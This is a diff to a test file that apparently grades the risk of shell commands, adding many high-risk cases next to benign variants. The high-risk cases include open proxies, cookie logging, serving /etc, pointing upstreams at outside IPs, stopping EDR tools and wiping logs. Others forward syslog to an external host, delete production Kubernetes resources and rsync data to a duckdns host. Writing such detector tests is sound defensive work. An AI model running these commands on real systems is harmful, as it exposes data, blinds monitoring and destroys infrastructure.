@@ -3072,6 +3072,147 @@ def test_clones_busy_loops_and_dry_runs(code: str, expected: RiskLevel) -> None:
         ('sudo iptables -I INPUT 1 -p tcp --dport 9200 -s 0.0.0.0/0 -j ACCEPT', H),
         ('sudo iptables -I INPUT 1 -p udp --dport 11211 -j ACCEPT', H),
         ('python3 -c \'import re; re.match(r"^(\\w+\\s?)*$", "a"*64 + "!")\' &', H),
+        (
+            "cat > /etc/nginx/conf.d/relay.conf <<'EOF'\n"
+            'server {\n'
+            '  listen 3128;\n'
+            '  resolver 9.9.9.9;\n'
+            '  location / { proxy_pass http://$host$request_uri; }\n'
+            '}\n'
+            'EOF\n'
+            'nginx -s reload',
+            H,
+        ),
+        (
+            "cat > /etc/nginx/conf.d/app.conf <<'EOF'\n"
+            'server {\n'
+            '  listen 80;\n'
+            '  location / { proxy_pass http://127.0.0.1:8000; proxy_set_header Host $host; }\n'
+            '}\n'
+            'EOF\n'
+            'nginx -t && nginx -s reload',
+            M,
+        ),
+        (
+            "printf 'ProxyRequests On\\n<Proxy *>\\n Require all granted\\n</Proxy>\\n' >> /etc/a"
+            'pache2/conf-available/fwd.conf',
+            H,
+        ),
+        (
+            "cat > /etc/nginx/conf.d/10-log.conf <<'EOF'\n"
+            "log_format full '$remote_addr $request cookie=$http_cookie';\n"
+            'access_log /var/log/nginx/full.log full;\n'
+            'EOF',
+            H,
+        ),
+        (
+            "cat > /etc/nginx/conf.d/10-log.conf <<'EOF'\n"
+            "log_format timed '$remote_addr $request $request_time';\n"
+            'access_log /var/log/nginx/timed.log timed;\n'
+            'EOF',
+            M,
+        ),
+        (
+            "cat > /etc/nginx/sites-available/files <<'EOF'\n"
+            'server {\n'
+            '  listen 8081;\n'
+            '  location /cfg/ { alias /etc/; autoindex on; }\n'
+            '}\n'
+            'EOF',
+            H,
+        ),
+        (
+            "cat > /etc/nginx/sites-available/static <<'EOF'\n"
+            'server {\n'
+            '  listen 8081;\n'
+            '  location /static/ { alias /srv/app/static/; }\n'
+            '}\n'
+            'EOF',
+            M,
+        ),
+        ("sed -i 's/ssl_verify_client on/ssl_verify_client off/' /etc/nginx/sites-enabled/admin", H),
+        ("sed -i '/auth_basic/d' /etc/nginx/sites-enabled/grafana", H),
+        ("sed -i 's/worker_connections 768/worker_connections 4096/' /etc/nginx/nginx.conf", M),
+        ("echo 'set server be_api/web1 addr 45.33.32.156 port 443' | socat stdio /run/haproxy/admin.sock", H),
+        ("echo 'set server be_api/web1 addr 10.0.4.21 port 8080' | socat stdio /run/haproxy/admin.sock", L),
+        ("echo 'set server be_api/web1 state drain' | socat stdio /run/haproxy/admin.sock", L),
+        (
+            'curl -X PATCH localhost:2019/config/apps/http/servers/srv0/routes/0/handle/0/ups'
+            'treams -d \'[{"dial":"45.33.32.156:80"}]\'',
+            H,
+        ),
+        (
+            'curl -X PATCH localhost:2019/config/apps/http/servers/srv0/routes/0/handle/0/ups'
+            'treams -d \'[{"dial":"127.0.0.1:9000"}]\'',
+            L,
+        ),
+        (
+            'while read -r h; do curl -s -XPOST "http://$h:9901/quitquitquit"; done < hosts.t'
+            'xt\n'
+            'for h in $(cat hosts.txt); do curl -s -XPOST "http://$h:9901/quitquitquit"; done',
+            H,
+        ),
+        ('curl -s -XPOST http://127.0.0.1:9901/quitquitquit', L),
+        ('docker service update --label-rm traefik.http.routers.admin.middlewares proxy_traefik', H),
+        (
+            'curl -s localhost:2019/config/ | jq \'.admin.listen = "0.0.0.0:2019"\' | curl -s -'
+            "X POST localhost:2019/load -H 'Content-Type: application/json' -d @-",
+            H,
+        ),
+        (
+            'sudo a2enmod rewrite ssl\n'
+            'sudo a2ensite shop.conf\n'
+            'sudo systemctl reload apache2',
+            M,
+        ),
+        ('sudo kill -USR1 "$(cat /run/nginx.pid)"', M),
+        ('sudo kill -9 "$(cat /run/nginx.pid)"', H),
+        ('sudo curl -fsSL https://example.org/dhparam.pem -o /etc/ssl/dhparam.pem', M),
+        ('sudo curl -fsSL https://example.org/rootCA.pem -o /etc/ssl/certs/rootCA.pem', H),
+        ('htpasswd -bB auth/.htpasswd ci "$CI_PASS"', M),
+        ('sudo journalctl --vacuum-time=10s', H),
+        ('sudo journalctl --vacuum-size=1K', H),
+        (
+            'sudo journalctl --vacuum-time=2weeks\n'
+            'sudo journalctl --vacuum-size=500M',
+            M,
+        ),
+        ('journalctl --vacuum-files=1', H),
+        ('for port in 514 601 6514 9997 5044 24224; do iptables -A OUTPUT -p tcp --dport $port -j REJECT; done', H),
+        ('iptables -A OUTPUT -p udp --dport 514 -j DROP', H),
+        ('iptables -A OUTPUT -d 203.0.113.66 -j DROP', M),
+        ('sudo launchctl bootout system/com.crowdstrike.falcond', H),
+        ('sudo launchctl unload -w /Library/LaunchDaemons/com.objective-see.lulu.plist', H),
+        ('launchctl unload ~/Library/LaunchAgents/com.me.backup.plist', S),
+        ("printf '*.* @@(o)45.33.32.156:6514\\n' | sudo tee /etc/rsyslog.d/90-fwd.conf", H),
+        ("printf '*.* @@10.0.0.5:514\\n' | sudo tee /etc/rsyslog.d/90-fwd.conf", H),
+        (
+            'set +o history\n'
+            'export DB_PASSWORD="$(pass show db)"\n'
+            'set -o history',
+            M,
+        ),
+        (
+            'set +o history\n'
+            'rm -rf ~/.cache/thumbnails',
+            H,
+        ),
+        ('sudo augenrules --check && sudo osqueryctl config-check', M),
+        (
+            'openssl req -x509 -newkey rsa:2048 -nodes -keyout tmp/dev.key -out tmp/dev.crt -'
+            'days 1 -subj /CN=localhost\n'
+            'shred -u tmp/dev.key',
+            S,
+        ),
+        ('shred -u config/prod.key', H),
+        ('kubectl --context production delete statefulset postgres -n chat', H),
+        ('kubectl --context staging-eu delete deployment matcher -n dating', S),
+        ('kubectl delete pvc media-store --context prod-us -n social', H),
+        ('socat TCP-LISTEN:3307,fork,reuseaddr UNIX-CONNECT:/var/run/mysqld/mysqld.sock &', H),
+        ('socat TCP-LISTEN:5433,bind=127.0.0.1,fork UNIX-CONNECT:/var/run/postgresql/.s.PGSQL.5432 &', M),
+        ('rsync -a /var/lib/app/uploads/ me@nas.duckdns.org:/backup/uploads/', H),
+        ('rsync -a ~/Pictures/ me@nas.duckdns.org:/backup/pictures/', H),
+        ('rsync -a /var/lib/app/uploads/ backup@10.0.0.9:/backup/uploads/', L),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
